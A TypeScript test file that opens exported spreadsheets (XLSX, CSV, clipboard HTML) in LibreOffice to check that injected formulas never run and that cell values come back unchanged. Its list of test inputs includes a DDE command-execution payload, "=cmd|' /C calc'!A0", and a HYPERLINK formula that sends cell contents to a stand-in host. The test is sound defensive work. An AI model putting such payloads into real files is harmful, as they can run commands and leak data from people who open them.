import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { textOf, type Cell } from '../../../lib/delivery/cell.ts';
import { clipboardWriter } from '../../../lib/delivery/clipboard.ts';
import { csvWriter } from '../../../lib/delivery/csv.ts';
import { guard } from '../../../lib/delivery/formula-guard.ts';
import type { TableWriter } from '../../../lib/delivery/writer.ts';
import { xlsxWriter } from '../../../lib/delivery/xlsx.ts';
import { findOffice } from '../../tools/office.mjs';
import { typedTable } from './cells.ts';
import { openedIn, type OpenedCell } from './spreadsheet.ts';

/** A real spreadsheet opens what we write: nothing runs, every cell is what it was. One sheet holds many random tables. */

const office = findOffice();
const SEED = Number(process.env.OTKLIK_SEED ?? Date.now() % 1_000_000);
const TABLES = process.env.OTKLIK_LONG === '1' ? 5_000 : 500;
const WIDTH = 4;
const columns = ['appeared', 'rating', 'text', 'link'] as const;
const titles = ['Дата', 'Оценка', '=1+1', 'Ссылка'];

/** What a spreadsheet itself takes for a value: it must not be read so in text. */
const TELLING = ['0123', '1234567890123456789', '=1+1', '=HYPERLINK("https://example.com/?"&A1,"да")', "=cmd|' /C calc'!A0", 'TRUE', '12:30', '50%', '1e5', '2026-11-22', '-5', '+7 999 123-45-67', '+7 -9999999'];

function rows(): Cell[][] {
  const random = fc.sample(typedTable, { seed: SEED, numRuns: TABLES }).flatMap((table) => table.rows);
  const wide = [...TELLING.map((text): Cell[] => [text, text]), ...random].map((row) => Array.from({ length: WIDTH - 1 }, (_, index) => row[index] ?? ''));
  // No row is empty at its end, so that all of them come back whole.
  return wide.map((row, index) => [...row.map(readable), `n${index}`]);
}

/** LibreOffice 7.4 takes U+10000 to U+1001F, and their like in the planes above, for the control characters of their last 16 bits. */
function readable(cell: Cell): Cell {
  return typeof cell === 'string' ? [...cell].filter((sign) => (sign.codePointAt(0) ?? 0) < 0x10000 || ((sign.codePointAt(0) ?? 0) & 0xffff) > 0x1f).join('') : cell;
}

async function written(writer: TableWriter, table: Cell[][]): Promise<Blob> {
  await writer.add(table);
  return (await writer.end())[0] ?? new Blob();
}

/** A sheet holds no control characters and no halves of characters, and has one line end. */
const shown = (text: string): string => text.toWellFormed().replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g, '').replace(/\r\n?/g, '\n');

/** The first cells that came back otherwise. In a cell of several lines LibreOffice drops TABs and may take empty lines for one: they do not count. */
function differing(table: readonly (readonly Cell[])[], look: (cell: Cell, at: number, index: number) => [read: string | null | undefined, written: string]): unknown[] {
  const bare = (text: string | null | undefined): string => (text ?? '').replaceAll('\t', '').replace(/\n+/g, '\n');
  return table
    .flatMap((row, at) => row.map((cell, index) => ({ at, index, seen: look(cell, at, index) })))
    .filter(({ seen: [read, written] }) => bare(read) !== bare(written))
    .slice(0, 12);
}

describe.skipIf(office === null)(`in LibreOffice${office === null ? ' (skipped: it is not installed; libreoffice-calc-nogui, or SOFFICE)' : `, seed ${SEED}`}`, { timeout: 300_000 }, () => {
  const program = office ?? '';
  const table = rows();

  test('XLSX: no formula; text stays text, numbers and days are values and show the same', async () => {
    const writer = xlsxWriter({ columns, titles, words: { sheet: 'Отзывы', rating: '{rating} из {scale}', cut: '…' } });
    const opened = await openedIn(program, 'table.xlsx', await written(writer, table));
    expect(opened.formulas).toBe(0);
    expect(opened.rows).toHaveLength(table.length + 1);
    expect(opened.rows[0]?.map(({ text }) => text)).toEqual(titles);
    expect(differing(table, (cell, at, index) => { const one = opened.rows[at + 1]?.[index]; return [one ? said(one).join(': ') : null, expected(cell).join(': ')]; })).toEqual([]);
    expect(opened.links.length).toBeGreaterThan(0);
    expect(opened.links.filter((link) => !/^https?:\/\/[^ "<>]+$/.test(link))).toEqual([]);
  });

  test.each([[',', '44'], [';', '59']] as const)('CSV with %s, its quotes meaning text: no formula, equal cells', async (delimiter, code) => {
    const opened = await openedIn(program, 'table.csv', await written(csvWriter(titles, delimiter), table), `CSV:${code},34,76,1,,0,true`);
    expect(opened.formulas).toBe(0);
    expect(differing([titles, ...table], (cell, at, index) => [opened.rows[at]?.[index]?.text, shown(guard(textOf(cell)))])).toEqual([]);
  });

  test('CSV opened as it comes: no formula, and what is taken for a number or a day is that number or day', async () => {
    const opened = await openedIn(program, 'table.csv', await written(csvWriter(titles, ','), table), 'CSV:44,34,76,1');
    expect(opened.formulas).toBe(0);
    expect(differing(table, (cell, at, index) => {
      const one = opened.rows[at + 1]?.[index];
      const text = shown(guard(textOf(cell)));
      return one && sameValue(one, text) ? [text, text] : [one?.text, text];
    })).toEqual([]);
  });

  test('HTML of the clipboard: no formula, equal cells up to the blanks that a page folds', async () => {
    const opened = await openedIn(program, 'table.html', await written(clipboardWriter(titles), table), 'HTML (StarCalc)');
    expect(opened.formulas).toBe(0);
    expect(differing([titles, ...table], (cell, at, index) => [folded(opened.rows[at]?.[index]?.text ?? ''), folded(guard(shown(textOf(cell)).replaceAll('\u007F', '')))])).toEqual([]);
  });
});

/** A cell of a workbook by its meaning. */
function said({ type, text, value }: OpenedCell): [string, string] {
  if (type === 'float') return ['number', String(Number(value))];
  return type === 'date' ? ['date', (value ?? '').replace(/T00:00:00$|:00$/, '').replace('T', ' ')] : ['text', text];
}

function expected(cell: Cell): [string, string] {
  if (typeof cell === 'string') return ['text', shown(cell)];
  if (cell.kind === 'number' && cell.of !== 7) return ['number', String(cell.value)];
  if ((cell.kind === 'moment' || cell.kind === 'day') && cell.serial !== null) return ['date', cell.text.replace(' 00:00', '')];
  return ['text', cell.text];
}

function sameValue({ type, text, value }: OpenedCell, written: string): boolean {
  if (text === written) return true;
  if (type === 'float' || type === 'percentage') {
    // It keeps 15 digits of a number: why the ids of our tables begin with letters.
    const number = Number(written.replace('%', '')) / (written.endsWith('%') ? 100 : 1);
    return Math.abs(Number(value) - number) <= Math.abs(number) * 1e-14;
  }
  if (type === 'date') return written.startsWith((value ?? '').slice(0, 10));
  return type === 'time' || type === 'boolean';
}

function folded(text: string): string {
  return text.replace(/[\s\u200B]+/g, ' ').trim();
}
